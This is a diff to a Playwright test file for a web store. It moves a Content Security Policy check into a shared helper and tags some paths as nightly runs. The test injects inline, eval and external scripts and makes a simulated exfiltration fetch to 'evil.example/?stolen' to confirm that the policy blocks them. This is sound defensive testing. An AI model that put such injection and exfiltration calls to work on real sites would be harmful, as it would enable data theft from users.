@@ -12,7 +12,7 @@ import { ImagesPage } from './images-page.ts';
 import { OrderPage } from './order-page.ts';
 import { OrdersPage } from './orders-page.ts';
 import { PaymentPage } from './payment-page.ts';
-import { DESKTOP, httpError, expectVisible, NO_PAGE, test } from './shopper.ts';
+import { DESKTOP, httpError, expectVisible, NO_PAGE, test, type Shopper } from './shopper.ts';
 
 /** Records violations of the policy in every page and frame of the store. */
 async function watchPolicy(context: BrowserContext): Promise<string[]> {
@@ -113,34 +113,40 @@ function inject(): void {
   setTimeout(ran('eval') as unknown as () => void);
 }
 
-test.for(['/', '/order', '/auth', '/no/such-page'])(
-  'script that found its way into %s does not run, and fetches nothing',
-  async (path, { shopper }) => {
-    shopper.mayPrint(/Content Security Policy/, ...NO_PAGE, httpError(404));
-    const { page, context } = shopper;
-    const violations = await watchPolicy(context);
-    let asked = 0;
-    await context.route('https://evil.example/**', (route) => {
-      asked += 1;
-      return route.fulfill({ body: "document.documentElement.dataset.ran = 'theirs'" });
-    });
-    await page.goto(path);
-    await expectVisible(page.getByRole('heading', { level: 1 }));
-    await page.evaluate(inject);
-    await page.evaluate(() => fetch('https://evil.example/?stolen').catch(() => undefined));
-    await expect.poll(() => violations.length).toBe(10);
-    expect(violations.map((line) => line.replace(/ at .*/, ''))).toEqual(
-      expect.arrayContaining([
-        'script-src-elem inline',
-        'script-src-elem data',
-        'script-src-elem blob',
-        'script-src-elem https://evil.example/x.js',
-        'script-src-attr inline',
-        'script-src eval',
-        'connect-src https://evil.example/?stolen',
-      ]),
-    );
-    expect(await page.locator('html').getAttribute('data-ran')).toBeNull();
-    expect(asked).toBe(0);
-  },
+async function expectNoScriptRuns(shopper: Shopper, path: string): Promise<void> {
+  shopper.mayPrint(/Content Security Policy/, ...NO_PAGE, httpError(404));
+  const { page, context } = shopper;
+  const violations = await watchPolicy(context);
+  let asked = 0;
+  await context.route('https://evil.example/**', (route) => {
+    asked += 1;
+    return route.fulfill({ body: "document.documentElement.dataset.ran = 'theirs'" });
+  });
+  await page.goto(path);
+  await expectVisible(page.getByRole('heading', { level: 1 }));
+  await page.evaluate(inject);
+  await page.evaluate(() => fetch('https://evil.example/?stolen').catch(() => undefined));
+  await expect.poll(() => violations.length).toBe(10);
+  expect(violations.map((line) => line.replace(/ at .*/, ''))).toEqual(
+    expect.arrayContaining([
+      'script-src-elem inline',
+      'script-src-elem data',
+      'script-src-elem blob',
+      'script-src-elem https://evil.example/x.js',
+      'script-src-attr inline',
+      'script-src eval',
+      'connect-src https://evil.example/?stolen',
+    ]),
+  );
+  expect(await page.locator('html').getAttribute('data-ran')).toBeNull();
+  expect(asked).toBe(0);
+}
+
+test('script that found its way into /order does not run, and fetches nothing', ({ shopper }) =>
+  expectNoScriptRuns(shopper, '/order'));
+
+test.for(['/', '/auth', '/no/such-page'])(
+  'nor does it on %s',
+  { tags: 'nightly' },
+  (path, { shopper }) => expectNoScriptRuns(shopper, path),
 );
